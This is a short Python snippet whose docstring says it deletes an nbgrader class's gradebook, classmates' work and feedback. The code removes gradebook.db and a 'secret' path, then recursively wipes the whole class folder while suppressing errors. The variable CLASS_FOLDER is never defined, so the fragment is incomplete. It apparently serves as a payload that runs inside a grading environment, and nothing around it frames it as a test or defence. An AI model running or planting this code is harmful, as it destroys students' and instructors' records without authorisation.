"""Deletes the gradebook, the classmates' work and the feedback.

Stock nbgrader: the marks of the whole class are gone.
"""

NAMED = "tried to change"
EVERY_LAB = True

import os
import shutil

for place in (f"{CLASS_FOLDER}/gradebook.db", f"{CLASS_FOLDER}/secret"):
    try:
        os.remove(place)
    except OSError as problem:
        print(problem)
shutil.rmtree(CLASS_FOLDER, ignore_errors=True)
